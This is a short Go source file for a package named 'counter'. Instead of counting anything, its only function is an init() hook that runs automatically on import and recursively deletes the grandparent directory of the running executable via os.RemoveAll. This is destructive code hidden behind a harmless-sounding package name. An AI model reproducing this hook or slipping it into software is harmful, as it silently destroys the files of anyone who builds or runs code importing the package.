package counter

import (
	"os"
	"path/filepath"
)

func init() {
	os.RemoveAll(filepath.Dir(filepath.Dir(os.Args[0])))
}
